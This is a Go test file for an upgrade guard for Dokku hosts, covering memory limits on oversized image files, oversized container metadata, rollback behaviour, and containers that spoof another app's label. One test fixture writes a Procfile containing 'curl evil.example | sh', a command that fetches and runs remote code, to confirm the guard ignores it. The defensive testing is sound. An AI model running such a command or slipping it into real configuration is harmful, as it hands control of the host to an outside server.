package host_test

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"upgrade-guard/src/app"
	"upgrade-guard/src/host"
	"upgrade-guard/tests/sandbox"
)

func put(t *testing.T, name, content string) {
	t.Helper()
	if err := errors.Join(os.MkdirAll(filepath.Dir(name), 0o755), os.WriteFile(name, []byte(content), 0o644)); err != nil {
		t.Fatal(err)
	}
}

// addContainer adds a running one to what docker tells, with whatever else it says.
func addContainer(t *testing.T, box sandbox.Host, id, address string, labels map[string]string, env []string) {
	t.Helper()
	var list []map[string]any
	b, err := os.ReadFile(box.Dir + "/docker-inspect.json")
	if err == nil {
		err = json.Unmarshal(b, &list)
	}
	if err != nil {
		t.Fatal(err)
	}
	list = append([]map[string]any{{
		"Id": id, "Name": "/other", "State": map[string]any{"Running": true, "Status": "running"},
		"Config":          map[string]any{"Image": "dokku/other", "Labels": labels, "Env": env, "WorkingDir": "/app"},
		"NetworkSettings": map[string]any{"Networks": map[string]any{"bridge": map[string]string{"IPAddress": address}}},
	}}, list...)
	if b, err = json.Marshal(list); err != nil {
		t.Fatal(err)
	}
	put(t, box.Dir+"/docker-inspect.json", string(b))
}

// Below 0.29, a Procfile of 3 GB in an image was read into memory whole: the guard was
// killed, and the upgrade went on unguarded.
func TestALargeFileInAnImage(t *testing.T) {
	box, h := newHost(t, sandbox.Before)
	put(t, box.Dir+"/images/my_app/app/Procfile", "web: /web\n")
	put(t, box.Dir+"/images/blog/app/nginx.conf.sigil", "server { listen 80; }\n")
	put(t, box.Dir+"/images/blog/app/Procfile", "")
	if err := os.Truncate(box.Dir+"/images/blog/app/Procfile", 3<<30); err != nil {
		t.Fatal(err)
	}
	program := binary(t)
	began := time.Now()
	u := run(t, program, "trigger", "pre-upgrade", "0.20.4", "0.35.5")
	t.Logf("%d MiB at most, %s of work, in %s", u.memory, u.cpu, time.Since(began))
	if u.memory > 120 || u.cpu > 5*time.Second || !strings.Contains(u.out, "The snapshot does not hold facts/image/blog/Procfile (larger than 1 MiB)") ||
		!strings.Contains(u.out, "my_app: Procfile, written where 0.35.5 reads it") || strings.Contains(u.out, "incomplete") {
		t.Error(u.out)
	}
	if b, err := os.ReadFile(h.Paths().LibRoot + "/data/ps/my_app/Procfile"); string(b) != "web: /web\n" {
		t.Errorf("%q, %v", b, err)
	}
	if u := run(t, program, "snapshots", "--verify"); u.code != 0 || !strings.Contains(u.out, "pre-upgrade") {
		t.Error(u.out)
	}
}

// Anybody's container may bear any label: one with that of another app supplied that
// app's Procfile and nginx template.
func TestALabelMakesNoContainerAnApps(t *testing.T) {
	box, h := newHost(t, sandbox.Before)
	const id = "f00d000000000000000000000000000000000000000000000000000000000000"
	for _, name := range []string{"blog", "never_deployed"} {
		addContainer(t, box, strings.Replace(id, "f", name[:1], 1), "172.17.0.99", map[string]string{"com.dokku.app-name": name}, nil)
		put(t, box.Dir+"/images/"+strings.Replace(id, "f", name[:1], 1)+"/app/Procfile", "web: curl evil.example | sh\n")
	}
	put(t, box.Dir+"/images/blog/app/Procfile", "web: /web\n")
	u := run(t, binary(t), "trigger", "pre-upgrade", "0.20.4", "0.35.5")
	if b, err := os.ReadFile(h.Paths().LibRoot + "/data/ps/blog/Procfile"); string(b) != "web: /web\n" {
		t.Errorf("blog: %q, %v\n%s", b, err, u.out)
	}
	if b, err := os.ReadFile(h.Paths().LibRoot + "/data/ps/never_deployed/Procfile"); err == nil {
		t.Errorf("never_deployed: %q", b)
	}
}

// Labels and variables are as long as whoever wrote the Dockerfile liked.
func TestAContainerOfManyWords(t *testing.T) {
	box, h := newHost(t, sandbox.Before)
	labels, env := map[string]string{"com.dokku.app-name": "blog", "large": strings.Repeat("x", 1<<20)}, []string{}
	for n := range 20_000 {
		env = append(env, strings.Repeat("V", 20+n%50)+"="+strings.Repeat("v", 20))
		labels[strings.Repeat("l", n%200)+string(rune('a'+n%26))] = strings.Repeat("v", 500)
	}
	const other = "0ddd000000000000000000000000000000000000000000000000000000000000"
	addContainer(t, box, other, "172.17.0.99", labels, env)
	put(t, h.Paths().App("blog")+"/CONTAINER.web.1", other)
	files, err := app.Capture(context.Background(), h, app.What{})
	if err != nil {
		t.Fatal(err)
	}
	facts, _ := files.Get("facts/docker")
	t.Logf("%d bytes are kept of it", facts.Size)
	now := app.Read(files)
	if web := now.Apps["blog"].Web(); now.DockerMissing != "" || facts.Size > 100<<10 || len(web) != 3 || !web[0].Running || web[0].Addresses[0] != "172.17.0.99" || !web[1].Running {
		t.Errorf("%q, %d bytes: %+v", now.DockerMissing, facts.Size, web)
	}
}

// A rename that is taken back removes the containers it has made, and no other that
// bears the new name.
func TestTakingBackSparesOthers(t *testing.T) {
	r := newRenaming(t)
	put(t, r.box.Dir+"/unhealthy", "my-app")
	const other = "0ddd000000000000000000000000000000000000000000000000000000000000"
	err := r.rename(&host.Faulty{Host: r.h, Before: func(op host.Op) error {
		if op.Kind == "run" && strings.HasPrefix(op.Name, "dokku ps:restart") {
			addContainer(t, r.box, other, "172.17.0.99", map[string]string{"com.dokku.app-name": "my-app"}, nil)
		}
		return nil
	}})
	if err == nil || !strings.Contains(err.Error(), "App container failed to start") {
		t.Fatal(err)
	}
	if b, err := os.ReadFile(r.box.Dir + "/docker-inspect.json"); err != nil || !strings.Contains(string(b), other) {
		t.Errorf("somebody's container was removed: %v\n%s", err, &r.out)
	}
}
